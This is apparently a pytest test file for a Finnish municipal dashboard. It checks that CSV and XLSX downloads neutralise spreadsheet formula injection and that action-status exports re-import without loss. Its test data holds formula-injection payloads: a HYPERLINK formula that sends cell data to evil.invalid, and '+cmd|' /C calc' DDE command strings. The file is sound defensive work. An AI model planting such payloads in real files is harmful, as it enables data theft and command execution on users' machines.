"""Downloads a spreadsheet cannot run, and exports that come back as they went (issue 13, items 1-3).

- common.spreadsheet: CSV cells neutralised (OWASP), numbers kept, the prefix reversible; XLSX text
  cells are string cells (never formulas) without a visible `'`, for every pandas dtype, headers too.
- Every download of every public page (CSV and XLSX), rendered from a database seeded with hostile
  strings, holds no cell a spreadsheet would evaluate.
- Action status: export (CSV and XLSX) → import is lossless for arbitrary note text (property test).
"""
from __future__ import annotations

import io
import shutil
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from common.spreadsheet import (
    DANGEROUS_LEADS, csv_formula_cells, formula_cells, is_plain_number, restore_cell, safe_cell, to_csv_bytes,
    to_xlsx_bytes,
)
from data_sources import action_status
from data_sources.uploads import MunicipalityResolver
from store.warehouse import connect_read, writing
from tests.survey_fixtures import ACTIONS, MUNICIPALITIES, make_db

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Avaa")',
    "= samaa tasoa",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(A1)",
]


def _xlsx_rows(data: bytes) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [tuple(c.value for c in row) for row in workbook.active.iter_rows()]


def _xlsx_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]


# ---------------------------------------------------------------- the cell rules


@given(st.text())
def test_csv_prefix_is_reversible_and_leaves_nothing_a_spreadsheet_evaluates(text):
    cell = safe_cell(text)
    assert restore_cell(cell) == text
    if cell:
        assert cell[0] not in DANGEROUS_LEADS or is_plain_number(cell)


@pytest.mark.parametrize("number", ["-3,5", "-3.5", "+12", "-0,25", "1e-5", "-1 234,5", "-12 %", "-.5"])
def test_numbers_are_not_formulas(number):
    assert safe_cell(number) == number
    assert safe_cell(-3.5) == -3.5
    assert to_csv_bytes(pd.DataFrame({"arvo": [number]})).decode("utf-8-sig").splitlines()[1] == number


@pytest.mark.parametrize("text", FORMULAS + ["-", "+", "@", "-x", "'=a", "''a"])
def test_formula_like_text_gets_one_prefix(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("'tavallinen heittomerkki") == "'tavallinen heittomerkki"  # not one of ours: kept


def _hostile_frame(text_dtype) -> pd.DataFrame:
    frame = pd.DataFrame({
        "=otsikko": pd.Series(FORMULAS, dtype=text_dtype),
        "arvo": [-3.5, 1.0, 2.5, -0.25, 7.0, float("nan"), 3.0, -1.0],
        "määrä": pd.Series([1, -2, 3, 4, 5, 6, 7, 8], dtype="int64"),
        "pvm": pd.to_datetime(["2024-01-02"] * 8),
        "kyllä": [True, False] * 4,
        "teksti-numero": pd.Series(["-3,5", "-3.5", "+1", "x", "=1", "@a", "-", "0"], dtype=text_dtype),
    })
    return frame


TEXT_DTYPES = ["object", "str", "string", "category"]


@pytest.mark.parametrize("text_dtype", TEXT_DTYPES)
def test_xlsx_has_no_formula_cell_and_shows_the_text_exactly(text_dtype):
    frame = _hostile_frame(text_dtype)
    data = to_xlsx_bytes(frame, "=tiedot")
    assert formula_cells(data) == []
    rows = _xlsx_rows(data)
    assert rows[0] == tuple(frame.columns)  # headers are text too, without a visible '
    # XML may hand a CR back as a line break (openpyxl's reader with or without lxml): compare line breaks as one
    assert [r[0].replace("\r", "\n") for r in rows[1:]] == [t.replace("\r", "\n") for t in FORMULAS]
    assert [r[5] for r in rows[1:]] == ["-3,5", "-3.5", "+1", "x", "=1", "@a", "-", "0"]
    assert [r[1] for r in rows[1:]][:5] == [-3.5, 1, 2.5, -0.25, 7]  # numbers stay numbers
    assert rows[1][2] == 1 and rows[2][2] == -2
    assert rows[1][3] == datetime(2024, 1, 2) and rows[1][4] is True
    for cell in _xlsx_cells(data):
        if isinstance(cell.value, str):
            assert cell.data_type == "s" and not cell.value.startswith("'")


@pytest.mark.parametrize("text_dtype", TEXT_DTYPES)
def test_csv_has_no_formula_cell_and_keeps_numbers(text_dtype):
    text = to_csv_bytes(_hostile_frame(text_dtype)).decode("utf-8-sig")
    assert csv_formula_cells(text) == []
    import csv

    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0][0] == "'=otsikko"
    assert [r[5] for r in rows[1:]] == ["-3,5", "-3.5", "+1", "x", "'=1", "'@a", "'-", "0"]
    assert [r[1] for r in rows[1:]][:4] == ["-3,5", "1,0", "2,5", "-0,25"]
    assert [restore_cell(r[0]) for r in rows[1:]] == FORMULAS


def test_a_line_break_inside_a_csv_cell_cannot_start_a_formula_row():
    text = to_csv_bytes(pd.DataFrame({"a": ["x\r=1+1", "y\n@SUM(1)", "z\r\n-1+1"]})).decode("utf-8-sig")
    assert csv_formula_cells(text) == []
    assert text.count("\r\n") == 4 + 1  # header + 3 rows, and the CRLF quoted inside the third cell


def test_xlsx_survives_text_xml_cannot_hold():
    frame = pd.DataFrame({"a": ["nul\x00x", "bell\x07", "\ufffe", "ok"], "b": [None, pd.NA, pd.NaT, 1]})
    rows = _xlsx_rows(to_xlsx_bytes(frame))
    assert [r[0] for r in rows[1:]] == ["nul\ufffdx", "bell\ufffd", "\ufffd", "ok"]


# ---------------------------------------------------------------- every download of every page


def _seed_hostile(db):
    """Hostile text in everything the pages show: indicator titles, region names, the plan, survey roles
    and text answers, action-status notes."""
    payload = FORMULAS[0] + " "
    with writing("test-hostile-seed", path=db) as load:
        con = load.con
        con.execute("UPDATE indicator SET title_fi = ? || title_fi, unit = coalesce(?, unit)", [payload, None])
        con.execute("UPDATE indicator SET title_fi = ? || title_fi WHERE id % 3 = 0", ["-"])
        con.execute("UPDATE region SET name_fi = '@' || name_fi WHERE category = 'KUNTA' AND code IN "
                    "(SELECT code FROM region WHERE category = 'KUNTA' ORDER BY code LIMIT 3)")
        con.execute("UPDATE action SET text_fi = ? || text_fi, responsible_fi = ?", ["+cmd|' /C calc'!A0 ", FORMULAS[3]])
        con.execute("UPDATE goal SET short_fi = ? || short_fi", ["=1+"])
        con.execute("UPDATE survey_response SET respondent_role = ? WHERE respondent_role <> 'hva'", [FORMULAS[0]])
        con.execute("UPDATE survey_answer SET answer = ? WHERE question_id IN "
                    "(SELECT question_id FROM survey_question WHERE type = 'text') AND answer IS NOT NULL", [FORMULAS[4]])
        con.execute("UPDATE action_status SET note = ?", ["= sama tilanne kuin 2024, odottaa päätöstä"])


PAGES = [("pages/tilannekuva.py", {}), ("pages/kunta.py", {"kunta": "297"}),
         ("pages/palvelukeskustelualue.py", {"alue": "PK-KESKI"}), ("pages/vertailu.py", {"tavoite": "3"}),
         ("pages/vertailu.py", {"tavoite": "1"}), ("pages/trendit.py", {}), ("pages/tavoitteet.py", {}),
         ("pages/kompassikysely.py", {}), ("pages/tietolahteet.py", {})]


@pytest.fixture(scope="module")
def hostile_db(demo_db, tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile_downloads") / "hostile.duckdb"
    shutil.copy2(demo_db, path)
    _seed_hostile(path)
    return path


def test_every_page_download_holds_no_formula(hostile_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    import ui.tables

    monkeypatch.setenv("TILANNEKUVA_DB", str(hostile_db))
    monkeypatch.delenv("TILANNEKUVA_ADMIN_PASSWORD_HASH", raising=False)
    made: list[tuple[str, str, bytes]] = []
    real_csv, real_xlsx = ui.tables.to_finnish_csv, ui.tables.to_xlsx

    def csv_recorder(frame):
        made.append(("csv", page, data := real_csv(frame)))
        return data

    def xlsx_recorder(frame, sheet="tiedot"):
        made.append(("xlsx", page, data := real_xlsx(frame, sheet)))
        return data

    monkeypatch.setattr(ui.tables, "DEFERRED", False)  # build the files now, so they can be inspected
    monkeypatch.setattr(ui.tables, "to_finnish_csv", csv_recorder)
    monkeypatch.setattr(ui.tables, "to_xlsx", xlsx_recorder)
    app = str(__import__("pathlib").Path(__file__).resolve().parents[1] / "app.py")
    for page, params in PAGES:
        at = AppTest.from_file(app, default_timeout=120)
        for name, value in params.items():
            at.query_params[name] = value
        at.run()
        if page != "pages/tilannekuva.py":
            at.switch_page(page)
            at.run()
        assert not at.exception, (page, [e.value for e in at.exception])
    pages_with_downloads = {p for _, p, _ in made}
    assert len(pages_with_downloads) >= 7, pages_with_downloads
    hostile_seen = 0
    for kind, page, data in made:
        if kind == "csv":
            text = data.decode("utf-8-sig")
            assert csv_formula_cells(text) == [], page
            hostile_seen += "'=HYPERLINK" in text or "'+cmd" in text or "'@" in text
        else:
            assert formula_cells(data) == [], page
            for cell in _xlsx_cells(data):
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not (cell.value[:1] == "'" and cell.value[1:2] in DANGEROUS_LEADS), (page, cell.value)
                    hostile_seen += cell.value.startswith(("=HYPERLINK", "+cmd", "@", "= samaa"))
    assert hostile_seen >= 5  # the hostile text did reach the downloads (as text)


# ---------------------------------------------------------------- action status: export -> import


ACTION_IDS = {a[0] for a in ACTIONS}
RESOLVER = MunicipalityResolver(pd.DataFrame(MUNICIPALITIES, columns=["code", "name_fi", "name_sv"]))
NOTE_TEXT = st.text(max_size=action_status.MAX_NOTE)


def _stored_note(note: str) -> str | None:
    """What the product stores for a given note, or None when it refuses it (validate_entry)."""
    values, problems = action_status.validate_entry("J-1-1", "Kuopio", "kyllä", "2024-01-01", note,
                                                    ACTION_IDS, RESOLVER)
    assume(not problems)
    return values["note"]


def _history_frame(notes: list[str | None], by: str = "Liisa") -> pd.DataFrame:
    """A frame shaped like status_history() (what both exports take)."""
    return pd.DataFrame({
        "entry_id": range(1, len(notes) + 1),
        "toimenpide": ["J-1-1"] * len(notes), "kunta": ["Kuopio"] * len(notes), "kuntakoodi": ["297"] * len(notes),
        "tila": ["osittain"] * len(notes), "päivämäärä": pd.to_datetime(["2024-05-02"] * len(notes)),
        "huomio": pd.Series(notes, dtype="str"), "kirjaaja": [by] * len(notes),
        "kirjattu": pd.to_datetime([f"2024-05-02 10:00:{i % 60:02d}" for i in range(len(notes))]),
        "esimerkki": [False] * len(notes),
    })


def _exports(frame: pd.DataFrame) -> dict[str, tuple[bytes, str]]:
    from ui.tables import to_xlsx

    return {
        "csv": (action_status.export_csv_bytes(frame), "tilat.csv"),
        "xlsx": (action_status.export_xlsx_bytes(frame), "tilat.xlsx"),
        # what the admin page's XLSX download writes (the whole history frame)
        "page-xlsx": (to_xlsx(frame.drop(columns=["entry_id"]), "tilat"), "tilat.xlsx"),
    }


def _imported(data: bytes, name: str) -> list[action_status.StatusEntry]:
    return action_status.parse_import(data, name, ACTION_IDS, RESOLVER, default_by="x", today=date(2025, 1, 1))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(notes=st.lists(NOTE_TEXT, min_size=1, max_size=4), by=st.sampled_from(["Liisa", "=Matti", "-x", "'@y"]))
def test_export_import_is_lossless_for_any_note(notes, by):
    stored = [_stored_note(n) for n in notes]
    frame = _history_frame(stored, by)
    for kind, (data, name) in _exports(frame).items():
        entries = _imported(data, name)
        assert [e.note for e in entries] == stored, kind
        assert [e.recorded_by for e in entries] == [by] * len(stored), kind
        assert [e.recorded_at for e in entries] == list(frame["kirjattu"]), kind
        assert {(e.action_id, e.municipality_code, e.status, e.status_date, e.is_demo) for e in entries} == {
            ("J-1-1", "297", "osittain", date(2024, 5, 2), False)}


@pytest.mark.parametrize("note", ["= sama tilanne kuin 2024, odottaa päätöstä", "-3,5", "+358 40 123", "'=x", "''",
                                  "@kaikki", "rivi 1\nrivi 2", "'-3,5", "'"])
def test_hostile_notes_survive_every_export_through_the_database(note, tmp_path):
    db = make_db(tmp_path)
    action_status.record_status("J-1-1", "Kuopio", "osittain", "2024-05-02", note, by="Liisa", db=db)
    with connect_read(db) as con:
        history = action_status.status_history(con)
    assert history["huomio"].tolist() == [note]
    for kind, (data, name) in _exports(history).items():
        if kind == "csv":
            assert csv_formula_cells(data.decode("utf-8-sig")) == []
        else:
            assert formula_cells(data) == []
        # importing the export back changes nothing: every row is already there, note included
        assert action_status.import_status_bytes(data, name, db=db) == 0, kind
        other = make_db(tmp_path / kind)
        assert action_status.import_status_bytes(data, name, db=other) == 1
        with connect_read(other) as con:
            assert action_status.status_history(con)["huomio"].tolist() == [note], kind


def test_notes_with_control_characters_are_refused_when_recorded(tmp_path):
    db = make_db(tmp_path)
    with pytest.raises(action_status.ActionStatusRejected) as info:
        action_status.record_status("J-1-1", "Kuopio", "ei", "2024-05-02", "piip\x07", by="t", db=db)
    assert [p.column for p in info.value.problems] == ["huomio"]
    action_status.record_status("J-1-1", "Kuopio", "ei", "2024-05-02", "a\r\nb\rc", by="t", db=db)
    with connect_read(db) as con:
        assert action_status.status_history(con)["huomio"].tolist() == ["a\nb\nc"]
